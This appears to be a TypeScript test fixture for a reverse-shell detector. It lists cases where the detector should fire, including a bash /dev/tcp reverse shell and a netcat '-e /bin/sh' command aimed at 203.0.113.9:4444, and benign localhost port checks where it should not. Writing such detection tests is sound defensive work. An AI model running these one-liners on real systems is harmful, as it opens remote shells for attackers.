import { exec, jobOf, type Case } from '../../testing.ts'

export const cases: readonly Case[] = [
  { name: 'bash', fires: true, events: jobOf(exec(2, 1, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])) },
  { name: 'netcat', fires: true, events: jobOf(exec(2, 1, ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'])) },
  {
    name: 'by its standard streams',
    fires: true,
    events: jobOf(
      exec(2, 1, ['/bin/sh', '-i'], { exe: '/usr/bin/dash', stdio: ['internet-socket', 'internet-socket', 'internet-socket'] }),
    ),
  },
  {
    name: 'a script waits for a port',
    fires: false,
    events: jobOf(exec(2, 1, ['bash', '-c', 'until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done'])),
  },
  { name: 'a port is tested', fires: false, events: jobOf(exec(2, 1, ['nc', '-z', 'localhost', '5432'])) },
]
